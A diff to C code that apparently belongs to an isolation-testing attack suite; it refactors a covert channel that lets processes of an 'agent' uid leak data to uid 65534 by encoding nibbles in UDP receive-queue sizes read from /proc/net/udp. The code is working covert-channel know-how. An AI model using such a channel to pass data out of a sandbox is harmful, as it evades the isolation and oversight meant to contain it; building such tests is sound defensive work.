@@ -224,14 +224,9 @@ int atkv_udp_recvq_agent(struct atk_ctx *c, char when)
     return 0;
 }
 
-/* UDP sockets in /proc/net/udp: (inode, uid, local port, rx_queue) into out; how many, or -1 */
-struct rq_sock {
-    unsigned long ino;
-    unsigned uid, port, rx;
-};
-static int list_udp(struct rq_sock *out, int cap)
+int atkv_udp_list(const char *path, struct atkv_udp_sock *out, int cap)
 {
-    FILE *f = fopen("/proc/net/udp", "re");
+    FILE *f = fopen(path, "re");
     if (!f)
         return -1;
     char line[512];
@@ -241,36 +236,82 @@ static int list_udp(struct rq_sock *out, int cap)
         return -1;
     }
     while (n < cap && fgets(line, sizeof(line), f)) {
+        char addr[40];
         unsigned port, tx, rx, uid;
         unsigned long ino;
-        if (sscanf(line, " %*d: %*x:%x %*x:%*x %*x %x:%x %*x:%*x %*x %u %*d %lu", &port, &tx, &rx, &uid, &ino) == 5)
-            out[n++] = (struct rq_sock){ino, uid, port, rx};
+        if (sscanf(line, " %*d: %39[0-9A-Fa-f]:%x %*[0-9A-Fa-f]:%*x %*x %x:%x %*x:%*x %*x %u %*d %lu", addr, &port, &tx,
+                   &rx, &uid, &ino) == 6)
+            out[n++] =
+                (struct atkv_udp_sock){ino, uid, strlen(addr) == 8 ? (unsigned)strtoul(addr, NULL, 16) : 0, port, rx};
     }
     fclose(f);
     return n;
 }
 
-static struct rq_sock before[4096];
-static int nbefore;
-static unsigned ports[RQ_SOCKS];
-static int nports;
-
-static int was_there(unsigned long ino)
+void atkv_udp_snap_take(const char *path, struct atkv_udp_snap *s)
 {
-    for (int i = 0; i < nbefore; i++)
-        if (before[i].ino == ino)
+    static struct atkv_udp_sock now[4096];
+    int n = atkv_udp_list(path, now, 4096);
+    s->n = 0;
+    for (int i = 0; i < n; i++)
+        s->ino[s->n++] = now[i].ino;
+}
+
+int atkv_udp_snap_has(const struct atkv_udp_snap *s, unsigned long ino)
+{
+    for (int i = 0; i < s->n; i++)
+        if (s->ino[i] == ino)
             return 1;
     return 0;
 }
 
+int atkv_udp_ports(const char *list, unsigned *ports, int cap)
+{
+    int n = 0;
+    char *p = (char *)list;
+    while (n < cap && *p && *p != ';') {
+        ports[n++] = (unsigned)strtoul(p, &p, 10);
+        if (*p == ',')
+            p++;
+        else if (*p != ';')
+            break;
+    }
+    return n;
+}
+
+int atkv_udp_nibbles(const char *path, unsigned myport, const unsigned *ports, int nports, int rq_n, char *msg,
+                     size_t cap)
+{
+    static struct atkv_udp_sock now[4096];
+    int n = atkv_udp_list(path, now, 4096);
+    unsigned unit = 0;
+    memset(msg, 0, cap);
+    for (int i = 0; i < n; i++)
+        if (now[i].port == myport)
+            unit = now[i].rx;
+    if (!unit)
+        return -1;
+    for (int j = 0; j < nports && (size_t)j / 2 + 1 < cap; j++)
+        for (int i = 0; i < n; i++)
+            if (now[i].port == ports[j] && now[i].rx % unit == 0 && now[i].rx / unit <= (unsigned)rq_n) {
+                unsigned nib = (unsigned)rq_n - now[i].rx / unit;
+                msg[j / 2] = (char)(j % 2 ? (msg[j / 2] | (char)nib) : (char)(nib << 4));
+            }
+    return 0;
+}
+
+static struct atkv_udp_snap before;
+static unsigned ports[RQ_SOCKS];
+static int nports;
+
 /* the outsider sends RQ_N + 1 one-byte datagrams carrying j to each new socket of the agent */
 static void send_indexes(struct atk_ctx *c)
 {
-    static struct rq_sock now[4096];
-    int n = list_udp(now, 4096);
+    static struct atkv_udp_sock now[4096];
+    int n = atkv_udp_list("/proc/net/udp", now, 4096);
     int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
     for (int i = 0; s >= 0 && i < n && nports < RQ_SOCKS; i++) {
-        if (now[i].uid != (unsigned)c->agent_uid || was_there(now[i].ino))
+        if (now[i].uid != (unsigned)c->agent_uid || atkv_udp_snap_has(&before, now[i].ino))
             continue;
         unsigned char j = (unsigned char)nports;
         struct sockaddr_in to = {
@@ -284,46 +325,27 @@ static void send_indexes(struct atk_ctx *c)
         close(s);
 }
 
-/* uid 65534: the rx_queue of each port, in units of one datagram measured on its own socket;
- * the nibbles go to msg */
-static void read_queues(char *msg, size_t cap)
+/* uid 65534: the rx_queue of each port, in units of one datagram measured on its own socket */
+static int nobody_reads_queues(struct atk_ctx *c, char *out, size_t n)
 {
+    (void)c;
     int r = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), w = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
     struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
     socklen_t al = sizeof(a);
     if (r < 0 || w < 0 || bind(r, (struct sockaddr *)&a, sizeof(a)) != 0 ||
         getsockname(r, (struct sockaddr *)&a, &al) != 0 || sendto(w, "j", 1, 0, (struct sockaddr *)&a, al) != 1)
-        return;
+        return 0;
     usleep(20000);
-    static struct rq_sock now[4096];
-    int n = list_udp(now, 4096);
-    unsigned unit = 0;
-    for (int i = 0; i < n; i++)
-        if (now[i].port == ntohs(a.sin_port))
-            unit = now[i].rx;
-    if (!unit)
-        return;
-    for (int j = 0; j < nports && (size_t)j / 2 + 1 < cap; j++)
-        for (int i = 0; i < n; i++)
-            if (now[i].port == ports[j] && now[i].rx % unit == 0 && now[i].rx / unit <= RQ_N) {
-                unsigned nib = RQ_N - now[i].rx / unit;
-                msg[j / 2] = (char)(j % 2 ? (msg[j / 2] | (char)nib) : (char)(nib << 4));
-            }
-}
-
-static int nobody_reads_queues(struct atk_ctx *c, char *out, size_t n)
-{
-    (void)c;
-    char msg[RQ_SOCKS / 2 + 1] = {0};
-    read_queues(msg, sizeof(msg));
-    snprintf(out, n, "%s", msg);
+    char msg[RQ_SOCKS / 2 + 1];
+    if (atkv_udp_nibbles("/proc/net/udp", ntohs(a.sin_port), ports, nports, RQ_N, msg, sizeof(msg)) == 0)
+        snprintf(out, n, "%s", msg);
     return 0;
 }
 
 void atkv_udp_recvq_on_sync(struct atk_ctx *c, const char *tag)
 {
     if (strcmp(tag, "pre") == 0) {
-        nbefore = list_udp(before, 4096);
+        atkv_udp_snap_take("/proc/net/udp", &before);
         nports = 0;
         return;
     }
